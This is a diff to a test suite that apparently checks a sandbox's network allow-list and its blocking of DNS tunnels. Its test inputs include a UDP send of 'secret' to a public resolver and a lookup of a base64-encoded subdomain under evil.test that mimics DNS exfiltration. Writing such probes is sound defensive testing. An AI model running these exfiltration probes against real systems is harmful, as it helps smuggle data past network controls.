@@ -65,9 +65,9 @@ async def test_n1_n3_n7_only_what_is_listed_is_reached(world: World) -> None:
                 f"http://[::1]:{other.port}/",
                 f"http://[::ffff:127.0.0.1]:{other.port}/",
             ):
-                said = await result(talk, curl(f"'{url}'", "-g", "-w", "'%{http_code}'"))
+                said = await result(talk, curl(f"'{url}'", "-g", "-w", "'code=%{http_code}'"))
                 assert REACHED not in said, url
-                assert "200" not in said, url
+                assert "code=200" not in said, url
             assert other.received == []
             refused = await result(talk, curl(f"https://example.org:{other.port}/"))
             assert f"[No connection to example.org:{other.port}: it is not on the list" in refused
@@ -114,8 +114,9 @@ async def test_n4_no_resolver_inside_and_no_packet_of_a_tunnel(world: World) -> 
             f"s.sendto(b'secret', ('127.0.0.1', {port})); s.sendto(b'secret', ('1.1.1.1', 53)); print('sent')"
         )
         async with conversation(world, world.home("a"), ["example.org"]) as talk:
-            said = await result(talk, f'python3 -c "{ask}"; getent hosts example.org || echo none')
-            assert "none" in said
+            said = await result(talk, f'python3 -c "{ask}"; getent hosts example.org c2VjcmV0.evil.test')
+            # An address of the box's own, which our name server makes up.
+            assert "127.64.0." in said
             assert "No connection to" in await result(talk, curl("http://c2VjcmV0.example.org/"))
         with pytest.raises(BlockingIOError):
             resolver.recv(100)
